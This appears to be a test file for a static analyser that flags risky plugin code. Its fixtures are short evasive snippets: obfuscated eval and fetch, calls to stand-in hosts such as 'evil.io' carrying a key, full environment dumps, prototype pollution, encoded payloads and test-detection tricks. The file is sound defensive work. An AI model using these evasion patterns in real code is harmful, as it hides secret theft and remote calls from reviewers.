import { describe, expect, test } from "vitest";
import { codeFacts, type FactKind } from "../../../agents/facts/code-facts.ts";
import type { Files } from "../../../shared/files.ts";

/** Facts of one file, without where they stand. */
const facts = (code: string, file = "src/index.ts", others: Files = {}): string[] =>
  codeFacts({ ...others, [file]: code })
    .filter((fact) => fact.file === file)
    .map(({ kind, detail }) => `${kind} ${detail}`);

const kinds = (code: string, file?: string): FactKind[] =>
  codeFacts({ [file ?? "src/index.ts"]: code }).map(({ kind }) => kind);

const wrapped = (body: string): string =>
  `export async function run(x: any, key: string) {\n${body}\n}\n`;

describe("what is reached, however it is written", () => {
  test.each<[FactKind, string]>([
    ["network", "await fetch(x)"],
    ["network", "await globalThis.fetch(x)"],
    ["network", 'await globalThis["fe" + "tch"](x)'],
    ["network", "const go = fetch; await go(x)"],
    ["network", "const { fetch: go } = globalThis; await go(x)"],
    ["network", "await Reflect.apply(fetch, null, [x])"],
    ["network", "new WebSocket(x)"],
    ["network", 'const net = await import("node:net"); net.connect(1)'],
    ["network", 'const http = require("http"); http.get(x)'],
    ["network", 'process.getBuiltinModule("node:https").get(x)'],
    ["child-process", 'const { exec } = await import("child_process"); exec(x)'],
    ["child-process", 'const load = require; load("node:child_process")'],
    ["child-process", 'process.mainModule.require("child_process").exec(x)'],
    ["engine", 'const vm = await import("node:vm"); vm.runInThisContext(x)'],
    ["engine", "delete require.cache[x]"],
    ["worker", 'const { Worker } = await import("node:worker_threads"); new Worker(x)'],
    ["file-read", 'const fs = await import("node:fs"); fs.readFileSync(x)'],
    ["file-read", 'const { readFile } = await import("node:fs/promises"); await readFile(x)'],
    ["file-write", 'const fs = await import("node:fs"); await fs.promises.writeFile(x, x)'],
    ["file-write", 'const fs = await import("node:fs"); fs[key](x)'],
    ["file-write", 'const fs = await import("node:fs"); x(fs)'],
    ["machine", 'const os = await import("node:os"); os.hostname()'],
    ["native", "process.dlopen(x, x)"],
    ["native", 'await import("./addon.node")'],
    ["process-control", "process.exit(0)"],
    ["process-control", 'process["ex" + "it"](0)'],
    ["process-control", "const { exit } = process; exit(0)"],
    ["process-control", "declare const process: any; process.kill(1)"],
    ["process-control", "x(process)"],
    ["process-listener", 'process.on("exit", x)'],
    ["evaluation", "eval(x)"],
    ["evaluation", "(0, eval)(x)"],
    ["evaluation", "const run = eval; run(x)"],
    ["evaluation", 'globalThis["ev" + "al"](x)'],
    ["evaluation", "new Function(x)"],
    ["evaluation", "Reflect.construct(Function, [x])"],
    ["evaluation", "x.constructor.constructor(x)()"],
    ["evaluation", 'x["constructor"](x)'],
    ["evaluation", 'setTimeout("alert(1)", 5)'],
    ["evaluation", "await WebAssembly.instantiate(x)"],
    ["computed-global", "globalThis[key](x)"],
    ["computed-global", "Reflect.get(globalThis, key)"],
    ["computed-global", "process[key]()"],
    ["computed-global", "Object.keys(globalThis)"],
    ["dynamic-import", "await import(x.key)"],
    ["dynamic-import", "require(x.key)"],
  ])("%s: %s", (kind, body) => {
    expect(kinds(wrapped(body))).toContain(kind);
  });

  test.each([
    "const process = (items: string[]) => items; return process([x]);",
    "const eval_ = 1; return eval_;",
    "return x instanceof Function && typeof fetch === 'function' && typeof globalThis;",
    "const { exit } = x; exit();",
    "return new this.constructor(x);",
    'return [process.platform, process.version, process.uptime()].join(" ");',
    "setTimeout(() => x(), 5); await new Promise((resolve) => setTimeout(resolve, 1));",
    "return x.fetch(x);",
    "const fs = { readFile: 1 }; return fs.readFile;",
  ])("nothing is made of: %s", (body) => {
    expect(facts(wrapped(body))).toEqual([]);
  });

  test("a helper of another file is followed to what it loads", () => {
    const files = { "src/tools.ts": 'export { exec as helper } from "node:child_process";' };
    expect(
      codeFacts({ ...files, "src/index.ts": 'import { helper } from "./tools.js"; helper;' }),
    ).toContainEqual({
      kind: "child-process",
      detail: "node:child_process",
      file: "src/tools.ts",
      line: 1,
    });
  });

  test("types reach nothing", () => {
    const code =
      'import type { Server } from "node:http";\nexport type A = Server | typeof fetch;\n';
    expect(facts(code)).toEqual(["import node:http"]);
  });
});

describe("variables and settings", () => {
  test("names are found through constants, lists, helpers and other files", () => {
    const code = `import { read } from "./read.js";
const NAMES = ["A_KEY", "B_KEY"] as const;
const OF = { url: "C_URL" };
export const all = (runtime: any) => [
  ...NAMES.map((name) => runtime.getSetting(name)),
  runtime.getSetting(OF.url),
  runtime.getSetting(\`D_\${"KEY"}\`),
  read(runtime, "E_KEY"),
  process.env.F_KEY ?? process.env["G_KEY"],
];
export function each({ runtime }: any) { for (const name of NAMES) runtime.getSetting(name); }
`;
    const read = `export const read = (runtime: any, name: string) => runtime.getSetting(name) ?? process.env[name];\n`;
    const found = codeFacts({ "src/index.ts": code, "src/read.ts": read });
    const names = (kind: FactKind) =>
      [...new Set(found.filter((fact) => fact.kind === kind).map(({ detail }) => detail))].sort();
    expect(names("setting")).toEqual(["A_KEY", "B_KEY", "C_URL", "D_KEY", "E_KEY"]);
    expect(names("environment")).toEqual(["E_KEY", "F_KEY", "G_KEY"]);
    expect([...names("setting-unknown"), ...names("environment-all")]).toEqual([]);
  });

  test.each([
    "return JSON.stringify(process.env);",
    "return { ...process.env };",
    "const { env } = process; return x(env);",
    "const { A, ...rest } = process.env; return rest;",
    "return process.env[x.key];",
    "for (const name in process.env) x(name);",
    "const read = (name: string) => process.env[name]; return [x.key].map(read);",
    "const read = (name: string) => process.env[name]; return read(...x);",
    'return globalThis["process"]["env"];',
  ])("the whole environment: %s", (body) => {
    expect(kinds(wrapped(body))).toContain("environment-all");
  });

  test.each([
    "x.getSetting(x.key)",
    "const { getSetting } = x;",
    "x.getSetting.bind(x)",
    "x(x.character.secrets)",
  ])("settings by unknown names: %s", (body) => {
    expect(kinds(wrapped(body))).toContain("setting-unknown");
  });

  test("a secret of the character is a setting by its name", () => {
    expect(facts(wrapped("return x.character.settings.secrets.OPENAI_API_KEY;"))).toEqual([
      "setting OPENAI_API_KEY",
    ]);
  });
});

describe("hosts", () => {
  test.each([
    ['fetch("https://api.evil.example.net/v1")', "host api.evil.example.net"],
    ['fetch("https://" + "evil.io" + "/" + key)', "host evil.io"],
    ["fetch(`https://${key}.evil.io/x`)", "host evil.io"],
    ['fetch("//evil.io/x")', "host evil.io"],
    ['fetch(["https:/", "evil.io"].join("/"))', "host evil.io"],
    ['fetch("https://user:pw@evil.io:8080")', "host evil.io"],
    ['fetch("http://3232235777/")', "host 3232235777"],
    ['x({ hostname: "evil.io" })', "host evil.io"],
    ['x("Get a key at https://evil.io first")', "mentioned-host evil.io"],
  ])("%s", (body, fact) => {
    expect(facts(wrapped(body))).toContain(fact);
  });

  test("a base address in a constant counts where it is written", () => {
    const code =
      'const BASE = "https://evil.io";\nexport const url = (p: string) => `${BASE}/${p}`;';
    expect(facts(code)).toEqual(["host evil.io", "host evil.io"]);
  });

  test.each([
    "fetch(`https://${key}/x`)",
    'x("postgres://user:password@host:5432/db")',
    'x("a.b.c")',
  ])("no host: %s", (body) => {
    expect(facts(wrapped(body)).filter((fact) => fact.includes("host"))).toEqual([]);
  });
});

describe("changes of what belongs to others", () => {
  test.each([
    "Object.prototype.x = 1;",
    "(Array.prototype as any).map = x;",
    "globalThis.fetch = x;",
    "globalThis[key] = x;",
    "Object.defineProperty(globalThis, key, x);",
    "Object.assign(console, x);",
    "Reflect.set(globalThis, key, x);",
    "console.log = x;",
    "Math.random = () => 1;",
    "Date.now = x;",
    "x.__proto__.admin = true;",
    'x["__proto__"].admin = true;',
    "runtime.useModel = x;",
    "this.runtime.character.system = x;",
    "[runtime.actions[0].handler] = [x];",
    "delete process.env.A;",
    'process.env.A = "1";',
  ])("%s", (body) => {
    expect(kinds(wrapped(`const runtime = x;\n${body}`))).toContain("patch");
  });

  test("a module's members and core's classes", () => {
    const code = `import fs from "node:fs";\nimport { Service } from "@elizaos/core";
export function f(x: any) { fs.readFileSync = x; Service.prototype.stop = x; }\n`;
    expect(facts(code).filter((fact) => fact.startsWith("patch"))).toEqual([
      "patch node:fs.readFileSync",
      "patch @elizaos/core.Service.prototype.stop",
    ]);
  });

  test.each([
    "let fetchIt = fetch; fetchIt = x;",
    "const own: any = {}; own.fetch = x; Object.assign(own, x);",
    "this.runtime = x; this.count += 1;",
    "x.data.items = [];",
  ])("one's own: %s", (body) => {
    expect(kinds(wrapped(body))).not.toContain("patch");
  });
});

describe("what happens at import", () => {
  test.each([
    ["fetch('/x');", "top-level-effect"],
    ["export {};\nawait (async () => { await fetch('/x'); })();", "top-level-effect"],
    ["['/x'].forEach((path) => fetch(path));", "top-level-effect"],
    ['import fs from "node:fs";\nexport const text = fs.readFileSync("x");', "top-level-effect"],
    ['import { connect } from "node:net";\nconnect(1);', "top-level-effect"],
    ["export class A { static { fetch('/x'); } }", "top-level-effect"],
    ["setInterval(() => {}, 5);", "top-level-timer"],
  ])("%s", (code, kind) => {
    expect(kinds(code)).toContain(kind);
  });

  test("what a function, a method or a field does happens later", () => {
    const code =
      "export const f = () => fetch('/x');\nexport class A { b = setTimeout(f, 1); c() { return fetch('/x'); } }";
    expect(kinds(code).filter((kind) => kind.startsWith("top-level"))).toEqual([]);
  });
});

describe("what is hidden", () => {
  test.each<[FactKind, string]>([
    ["payload", `const x = "${"aGVsbG8gd29ybGQ".repeat(20)}";`],
    ["payload", `const x = "${"deadbeef".repeat(20)}";`],
    ["payload", 'const x = atob("aHR0cHM6Ly9ldmlsLmlv");'],
    ["payload", 'const x = Buffer.from("68747470733a2f2f6576696c", "hex");'],
    ["payload", "const x = String.fromCharCode(104, 116, 116, 112);"],
    ["payload", "const c = [104, 116, 116, 112]; String.fromCharCode(...c);"],
    ["payload", `const x = [${Array.from({ length: 80 }, (_, n) => n).join(",")}];`],
    ["payload", 'const x = "\\x65\\x76\\x61\\x6c\\x28\\x29";'],
    ["obfuscation", "const _0x3fa2 = 1;"],
    ["hidden-character", "const а\u0062c = 1;"],
    ["hidden-character", "const x = 'a\u202eb';"],
    ["hidden-character", "const x = 'a\u200bb';"],
    ["hidden-character", "const x = 'a\u{e0041}b';"],
    ["suppression", "// @ts-nocheck\nexport {};"],
    ["suppression", "/* @ts-ignore */ const x = 1;"],
    ["lint-comment", "// eslint-disable-next-line\nexport {};"],
    ["test-awareness", "export const f = () => process.env.VITEST;"],
    ["test-awareness", 'export const f = () => process.env.NODE_ENV === "test";'],
    ["test-awareness", "export const f = () => import.meta.vitest;"],
    ["test-awareness", "export const f = () => new Error().stack;"],
    ["test-awareness", 'export const f = (e: Error) => e.stack?.includes("x");'],
    ["test-awareness", 'export const f = () => process.argv.some((a) => a.includes("vitest"));'],
    ["test-awareness", "export const f = () => typeof vi === 'undefined' ? 1 : vi.fn();"],
    ["test-awareness", "export const f = () => (globalThis as any).__vitest_worker__;"],
  ])("%s: %s", (kind, code) => {
    expect(kinds(code)).toContain(kind);
  });

  test.each([
    'const x = "👨‍👩‍👧 family, ❤️ and 🥛";',
    'const x = "Übergröße – naïve";',
    'export const say = "Never write @ts-nocheck or eslint-disable";',
    "export const f = (e: Error) => e.stack;",
    'export const encode = (s: string) => Buffer.from(s).toString("base64");',
    "const codes = [0, 1, 2, 3, 45, 48, 51, 53, 55];",
    "\ufeffexport const x = 1;",
  ])("plain: %s", (code) => {
    expect(facts(code)).toEqual([]);
  });
});

test("a module that is taken as a whole is followed no further", () => {
  const read = "export const read = (name: string) => process.env[name];";
  const found = [
    'import * as all from "./read.js";\nexport const f = (x: any) => all.read(x.key);',
    'export const f = async (x: any) => (await import("./read.js")).read(x.key);',
  ].map((code) => codeFacts({ "src/read.ts": read, "src/index.ts": code }));
  for (const each of found) expect(each.map(({ kind }) => kind)).toContain("environment-all");
});

test("a file that is nested without end is reported, and the others are read", () => {
  const deep = `export const x = ${"[".repeat(5000)}${"]".repeat(5000)};`;
  const found = codeFacts({ "src/deep.ts": deep, "src/index.ts": "eval('1');" });
  expect(found.map(({ kind, file }) => `${file} ${kind}`)).toEqual(
    expect.arrayContaining(["src/deep.ts unreadable", "src/index.ts evaluation"]),
  );
});

test("constants that go in circles and calls without end are given up, not followed", () => {
  const chain = Array.from(
    { length: 60 },
    (_, n) => `const f${n} = (a: string) => [f${n + 1}(a), f${n + 1}(a + "x"), f${n + 1}("y")];`,
  );
  const code = `const a = b; const b = a;\n${chain.join("\n")}\nconst f60 = (a: string) => process.env[a];\nf0(a);`;
  expect(kinds(code)).toContain("environment-all");
});

test("tests are no part of the plugin, and a source that imports one is told of", () => {
  const files = {
    "src/__tests__/a.test.ts": "eval('1')",
    "src/index.ts": 'import "./__tests__/a.test.js";',
  };
  expect(codeFacts(files).map(({ kind }) => kind)).toEqual(["imports-tests"]);
});
